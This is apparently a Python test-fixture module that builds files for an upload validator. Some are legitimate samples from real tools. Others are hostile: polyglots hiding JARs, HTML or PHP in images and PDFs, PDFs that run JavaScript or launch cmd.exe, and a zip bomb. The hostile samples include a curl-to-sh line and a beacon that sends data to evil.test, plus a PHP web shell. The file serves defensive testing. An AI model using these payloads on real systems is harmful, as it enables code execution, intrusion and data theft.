"""Files to upload: hostile ones (programs, web pages, polyglots, PDFs that run scripts) and
legitimate ones made by real tools (WeasyPrint, pypdf, Pillow, openpyxl).

Each polyglot is built to really be both formats: tests assert the second reading (a ZIP
that zipfile opens, markup a browser would sniff) so that a refusal proves something.
"""

from __future__ import annotations

import base64
import functools
import io
import random
import zipfile
from pathlib import Path

from tests.support.files import (
    PAGE_OBJECTS,
    docx,
    jpeg_comment,
    pdf,
    pdf_with_stream,
    png_chunk,
    tiny_jpeg,
    tiny_pdf,
    tiny_png,
    xlsx,
)

# --- Hostile payloads -------------------------------------------------------------------------
WINDOWS_EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
               + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\r\n$"
               + b"\x00" * 40 + b"PE\x00\x00L\x01")
LINUX_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s https://evil.test/x | sh\n"
HTML_PAGE = (b"<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/respond/')"
             b".then(r => r.text()).then(t => navigator.sendBeacon('https://evil.test', t))"
             b"</script></body></html>\n")
SVG_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
              b"<script>alert(1)</script></svg>\n")
PHP_SHELL = b"<?php system($_GET['c']); ?>"


def jar() -> bytes:
    """A small Java archive: what a JVM runs when a polyglot is loaded as a JAR."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Payload\n")
        archive.writestr("Payload.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64)
    return buffer.getvalue()


def without_local_headers(archive: bytes) -> bytes:
    """The archive with its local file header signatures spoiled: only its central directory
    and end record still say it is a ZIP."""
    return archive.replace(b"PK\x03\x04", b"PK\x03\x00")


def is_zip(data: bytes) -> bool:
    return zipfile.is_zipfile(io.BytesIO(data))


# --- Polyglots --------------------------------------------------------------------------------
def png_with_jar() -> bytes:
    """A PNG with a JAR after it: viewers stop at IEND, a JVM reads the archive's end."""
    return tiny_png() + jar()


def jpeg_with_jar() -> bytes:
    return tiny_jpeg() + jar()


def pdf_with_jar_in_a_stream() -> bytes:
    """A PDF carrying a JAR inside a stream object: a valid PDF, and zipfile opens it too."""
    return pdf_with_stream(jar())


def pdf_with_zip_after_eof() -> bytes:
    return tiny_pdf() + jar()


def png_with_data_after_iend() -> bytes:
    return tiny_png() + b"\x00" * 16 + b"echo owned > /tmp/owned\n"


def png_with_script_in_a_text_chunk() -> bytes:
    return tiny_png(png_chunk(b"tEXt", b"Comment\x00<script>alert(document.cookie)</script>"))


def png_with_html_after_iend() -> bytes:
    return tiny_png() + HTML_PAGE


def jpeg_with_html_in_a_comment() -> bytes:
    return tiny_jpeg(jpeg_comment(HTML_PAGE))


def jpeg_with_svg_in_a_comment() -> bytes:
    return tiny_jpeg(jpeg_comment(SVG_SCRIPT))


def jpeg_with_php_in_a_comment() -> bytes:
    return tiny_jpeg(jpeg_comment(PHP_SHELL))


def pdf_with_html_in_its_header() -> bytes:
    """An HTML page in a PDF comment right after %PDF-: old sniffers render it as a page."""
    return pdf(PAGE_OBJECTS, header=b"%PDF-1.4\n%" + HTML_PAGE)


def pdf_with_html_after_eof() -> bytes:
    return pdf(PAGE_OBJECTS, after_eof=HTML_PAGE)


def pdf_opening_javascript() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE_OBJECTS[1:],
                b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"])


def pdf_opening_javascript_spelled_with_escapes() -> bytes:
    """/Java#53cript and /J#53 are /JavaScript and /JS to every PDF reader."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE_OBJECTS[1:],
                b"<< /Type /Action /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"])


def pdf_launching_a_program() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE_OBJECTS[1:],
                b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"])


def compressed_pdf_opening_javascript() -> bytes:
    import pydyf

    action = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    return _compressed_with(lambda refs: {"catalog": {"OpenAction": refs(action)}})


def compressed_pdf_with_a_chained_script() -> bytes:
    """Opening goes to page 1, then /Next runs JavaScript."""
    import pydyf

    script = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    go = pydyf.Dictionary({"S": "/GoTo", "D": pydyf.Array([0, "/Fit"])})

    def parts(refs):
        go["Next"] = refs(script)
        return {"catalog": {"OpenAction": refs(go)}}
    return _compressed_with(parts)


def compressed_pdf_with_document_actions() -> bytes:
    import pydyf

    script = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    return _compressed_with(lambda refs: {"catalog": {"AA": pydyf.Dictionary({"WC": refs(script)})}})


def compressed_pdf_with_document_javascript() -> bytes:
    import pydyf

    script = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})

    def parts(refs):
        tree = pydyf.Dictionary({"Names": pydyf.Array([pydyf.String("init"), refs(script)])})
        return {"catalog": {"Names": pydyf.Dictionary({"JavaScript": refs(tree)})}}
    return _compressed_with(parts)


def compressed_pdf_with_a_page_opening_script() -> bytes:
    """Not in the catalog: the page's own open action, packed in the object stream."""
    import pydyf

    script = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    return _compressed_with(lambda refs: {"page": {"AA": pydyf.Dictionary({"O": refs(script)})}})


def compressed_pdf_with_a_looping_chain() -> bytes:
    """An open action whose /Next points back at itself, with no script anywhere."""
    import pydyf

    go = pydyf.Dictionary({"S": "/GoTo", "D": pydyf.Array([0, "/Fit"])})

    def parts(refs):
        go["Next"] = refs(go)
        return {"catalog": {"OpenAction": refs(go)}}
    return _compressed_with(parts)


@functools.cache
def compressed_pdf_with_a_huge_catalog() -> bytes:
    """A small upload whose object stream inflates to 1.2 MB of zeros in the catalog: cheap to
    send, slow to parse without a bound."""
    import pydyf

    zeros = pydyf.Array([pydyf.Array([0] * 90_000) for _ in range(7)])
    return _compressed_with(lambda refs: {"catalog": {"Junk": zeros}})


def _compressed_with(parts) -> bytes:
    """A compressed one-page PDF; `parts(refs)` returns the catalog and page entries, where
    refs(dictionary) adds the dictionary as an object and returns its reference."""
    import pydyf

    document = pydyf.PDF()

    def refs(dictionary):
        if getattr(dictionary, "number", None) is None:
            document.add_object(dictionary)
        return dictionary.reference

    entries = parts(refs)
    leaf = pydyf.Dictionary({"Type": "/Page", "Parent": document.pages.reference,
                             "MediaBox": pydyf.Array([0, 0, 200, 200])})
    leaf.update(entries.get("page", {}))
    document.add_page(leaf)
    document.catalog.update(entries.get("catalog", {}))
    out = io.BytesIO()
    document.write(out, compress=True)
    return out.getvalue()


def damaged_pdf() -> bytes:
    """Starts and ends like a PDF; in between, nothing a reader can use."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(3).randbytes(4000) + b"\n%%EOF\n"


def password_pdf(*, user_password: str, algorithm: str = "RC4-128",
                 opening_script: bool = False) -> bytes:
    """An encrypted one-page PDF. With an empty user password anyone may open it and only the
    owner password lifts restrictions (printing, copying): how SOC 2 reports often come.
    `opening_script` runs JavaScript when it is opened (/OpenAction, in the catalog)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if opening_script:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer.encrypt(user_password=user_password, owner_password="owner-secret",
                   algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    """A DOCX in every way but one part, 40 MB of zeros packed into about 40 KB."""
    return docx({"word/media/padding.xml": b"\x00" * (40 * 1024 * 1024)})


def docx_with_macros() -> bytes:
    return docx({"word/vbaProject.bin": b"\xcc\x61" + b"\x00" * 64})


# --- Legitimate files made by real tools ------------------------------------------------------
@functools.cache
def weasyprint_pdf() -> bytes:
    """A multi-page report as the project renders them: WeasyPrint (pydyf) packs every
    dictionary into a compressed object stream, and it has links (URI actions) and an image."""
    from weasyprint import HTML

    rows = "".join(f"<tr><td>Control {i}</td><td>Data of each customer is kept apart, see "
                   f"<a href='https://labelworks.test/policy#{i}'>policy §{i}</a>.</td></tr>"
                   for i in range(160))
    image = "data:image/png;base64," + base64.b64encode(pillow_png()).decode()
    html = (f"<h1>Segregation report — Données</h1><img src='{image}' width='120'>"
            f"<table>{rows}</table>")
    return HTML(string=html).write_pdf()


def pypdf_pdf() -> bytes:
    """Written by pypdf: several pages, metadata, an outline, a link, and an open action
    that only shows the first page (an action, but no script)."""
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    for _ in range(4):
        writer.add_blank_page(300, 300)
    writer.add_metadata({"/Title": "Sub-processor register", "/Author": "LabelWorks"})
    writer.add_outline_item(title="Second page", page_number=1)
    writer.add_annotation(0, Link(rect=(10, 10, 100, 40), url="https://labelworks.test/"))
    writer.open_destination = writer.pages[0]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.cache
def pillow_png() -> bytes:
    """A noisy 256x256 RGB PNG with text metadata: high-entropy compressed data."""
    from PIL import Image, PngImagePlugin

    image = Image.frombytes("RGB", (256, 256), random.Random(11).randbytes(256 * 256 * 3))
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Diligence tests")
    info.add_itxt("Description", "Schéma de ségrégation des données", lang="fr")
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info)
    return out.getvalue()


XMP = (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
       b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
       b'22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements'
       b'/1.1/"><dc:title>Server room</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>'
       b'<?xpacket end="w"?>')


def pillow_jpeg() -> bytes:
    """A noisy photo-like JPEG with EXIF (camera, date) and an XMP packet (XML metadata)."""
    from PIL import Image

    image = Image.frombytes("RGB", (320, 240), random.Random(5).randbytes(320 * 240 * 3))
    exif = Image.Exif()
    exif[0x010F] = "Acme Cameras"
    exif[0x0110] = "DC-1"
    exif[0x0132] = "2025:03:14 09:26:53"
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90, exif=exif.tobytes(), xmp=XMP)
    return out.getvalue()


UTF8_TEXT = "Données chiffrées au repos (AES-256); accès journalisé — revue trimestrielle.\n".encode()
CSV_TEXT = "sous-traitant,pays,données\nAnnotaÇa,FR,étiquetage\nLabelWorks GmbH,DE,none\n".encode()


def write_pdf_of_size(path: Path, size: int) -> Path:
    """A real one-page PDF of exactly `size` bytes, most of it one stream of high-entropy
    bytes like a scanned report's images. Written straight to `path`, built once."""
    probe = pdf_with_stream(b"")
    padding = size - len(probe)
    # The /Length number grows by its own digits; aim again once with the real width.
    padding -= len(pdf_with_stream(b"\x00" * padding)) - size
    content = random.Random(25).randbytes(padding)
    data = pdf_with_stream(content)
    assert len(data) == size, (len(data), size)
    path.write_bytes(data)
    return path


LEGITIMATE = {
    "report.pdf": weasyprint_pdf,
    "register.pdf": pypdf_pdf,
    "soc2-restricted.pdf": lambda: password_pdf(user_password="", algorithm="AES-256"),
    "diagram.png": pillow_png,
    "server-room.jpg": pillow_jpeg,
    "chiffrement.txt": lambda: UTF8_TEXT,
    "sous-traitants.csv": lambda: CSV_TEXT,
    "policy.docx": docx,
    "register.xlsx": xlsx,
}
